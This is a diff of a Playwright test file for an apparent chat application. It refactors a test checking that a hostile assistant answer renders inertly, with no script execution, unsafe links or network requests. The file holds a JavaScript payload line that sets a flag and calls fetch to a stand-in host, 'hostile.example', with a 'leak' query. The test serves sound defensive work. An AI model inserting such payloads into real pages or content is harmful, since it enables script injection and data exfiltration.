@@ -1,11 +1,10 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
 import type { BrowserContext, Page } from '@playwright/test';
-import { startApp, temporaryFolder } from './support/app.ts';
-import { answers, ask, QUESTION } from './support/chat.ts';
+import { temporaryFolder } from './support/app.ts';
+import { answers, ask, QUESTION, replaceAnswer, startConversation } from './support/chat.ts';
 import { addByPath, createLibrary, libraryDone } from './support/library.ts';
-import { expect, goTo, openWindow, test } from './support/test.ts';
+import { expect, goTo, test } from './support/test.ts';
 
 /** Sets a flag when it runs, and contacts a host that must not be contacted. */
 const RUN = `globalThis.ranHostile=1;fetch('http://hostile.example/?leak')`;
@@ -115,32 +114,17 @@ test('a hostile document does nothing, in its text and as a source', async ({
   folder.remove();
 });
 
-test('a hostile answer does nothing', async ({ window, app, dataDir, context }) => {
+test('a hostile answer does nothing', async ({ sharedApp: app, sharedWindow: window }) => {
+  await startConversation(window);
   await ask(window, QUESTION);
-  await window.close();
-  await app.stop();
-  const database = new Database(join(dataDir, 'conversations.sqlite'));
-  const changed = database.prepare("UPDATE message SET text = ? WHERE role = 'assistant'").run(HOSTILE);
-  database.close();
-  expect(changed.changes).toBe(1);
-
-  const again = await startApp(dataDir);
-  try {
-    const happened = watch(context, again.origin);
-    const reopened = await openWindow(again, context);
-    await reopened.getByRole('complementary', { name: 'Conversations' }).getByText(QUESTION).click();
-    const answer = answers(reopened);
-    await expect(answer).toContainText('The end of the hostile page.');
-    await expect(answer.getByRole('link', { name: /elsewhere/ })).toHaveAttribute(
-      'rel',
-      /noopener noreferrer/,
-    );
-    await expectInert(reopened, again.origin);
-    for (const words of ['a script', 'in capitals', 'entities', 'data', 'file']) {
-      await expect(answer.getByRole('link', { name: words, exact: true }), words).toHaveCount(0);
-    }
-    expect(happened).toEqual([]);
-  } finally {
-    await again.stop();
+  const happened = watch(window.context(), app.origin);
+  await replaceAnswer(window, app.dataDir, { text: HOSTILE });
+  const answer = answers(window);
+  await expect(answer).toContainText('The end of the hostile page.');
+  await expect(answer.getByRole('link', { name: /elsewhere/ })).toHaveAttribute('rel', /noopener noreferrer/);
+  await expectInert(window, app.origin);
+  for (const words of ['a script', 'in capitals', 'entities', 'data', 'file']) {
+    await expect(answer.getByRole('link', { name: words, exact: true }), words).toHaveCount(0);
   }
+  expect(happened).toEqual([]);
 });
